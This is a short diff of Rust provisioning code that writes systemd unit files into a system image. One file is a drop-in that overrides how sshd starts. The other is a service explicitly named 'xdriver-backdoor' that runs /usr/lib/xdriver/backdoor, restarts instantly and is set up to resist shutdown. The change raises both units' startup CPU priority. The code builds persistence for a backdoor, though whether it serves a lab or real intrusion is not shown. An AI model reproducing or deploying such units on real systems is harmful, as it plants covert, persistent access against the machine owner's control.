@@ -105,7 +105,7 @@ pub fn provision(init: Init, hostname: &str) -> Vec<FsEntry> {
             v.push(file(
                 "/etc/systemd/system/ssh.service.d/xdriver.conf",
                 0o644,
-                "[Unit]\nDefaultDependencies=no\nConflicts=shutdown.target\nBefore=shutdown.target\n\n[Service]\nExecStartPre=\n",
+                "[Unit]\nDefaultDependencies=no\nConflicts=shutdown.target\nBefore=shutdown.target\n\n[Service]\nStartupCPUWeight=1000\nExecStartPre=\nExecStart=\nExecStart=/usr/sbin/sshd -D -r $SSHD_OPTS\n",
             ));
             v.push(file(
                 "/etc/systemd/system/xdriver-backdoor.service",
@@ -116,6 +116,7 @@ pub fn provision(init: Init, hostname: &str) -> Vec<FsEntry> {
                  Conflicts=shutdown.target\n\
                  Before=shutdown.target\n\n\
                  [Service]\n\
+                 StartupCPUWeight=1000\n\
                  ExecStart=/usr/lib/xdriver/backdoor\n\
                  Restart=always\n\
                  RestartSec=0\n\
